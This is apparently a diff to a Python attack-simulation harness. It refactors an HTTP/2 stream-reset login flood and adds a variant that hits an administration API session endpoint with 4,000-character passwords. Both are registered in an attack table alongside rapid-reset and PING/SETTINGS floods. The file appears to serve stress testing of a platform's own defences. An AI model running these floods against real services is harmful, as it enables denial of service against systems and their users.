@@ -30,24 +30,35 @@ def http2(site):
     return Line(lambda number: dial_tls(site, context, number))
 
 
-def logins_http2(site, seconds):
-    """2,000 a minute: streams that are reset, up to 100 on a connection."""
+def reset_logins(site, seconds, login, streams):
+    """2,000 a minute: streams that are reset, so many on a connection."""
     line, at = http2(site), {"stream": 1}
 
     def one(_):
-        if at["stream"] > 200:
+        if at["stream"] > 2 * streams:
             line.close()
         line.open()
         if line.fresh:
             at["stream"] = 1
             line.send(wire.h2_preface())
-        line.send(wire.h2_login(at["stream"], BAD_LOGIN))
+        line.send(login(at["stream"]))
         time.sleep(0.002)
         line.send(wire.h2_reset(at["stream"]))
         at["stream"] += 2
         line.read()
 
     return spread(Pace(seconds, 2000 / 60), one)
+
+
+def logins_http2(site, seconds):
+    """Of the platform, up to 100 on a connection."""
+    return reset_logins(site, seconds, lambda stream: wire.h2_login(stream, BAD_LOGIN), 100)
+
+
+def logins_administration(site, seconds):
+    """Of the administration API, with long passwords: 10 on a connection, as many as an address may fail at once."""
+    body = json.dumps({"user": "stranger", "password": "p" * 4_000}).encode()
+    return reset_logins(site, seconds, lambda stream: wire.h2_login(stream, body, b"/api/admin/v1/session"), 10)
 
 
 def rapid_resets(site, seconds):
@@ -185,6 +196,7 @@ ATTACKS = {
     "aborted logins, HTTP/1.1": logins_http1,
     "aborted logins, HTTP/2": logins_http2,
     "aborted logins, HTTP/3": logins_http3,
+    "aborted logins, administration": logins_administration,
     "rapid resets, HTTP/2": rapid_resets,
     "PING and SETTINGS, HTTP/2": pings,
     "half the headers, HTTP/3": half_headers_http3,
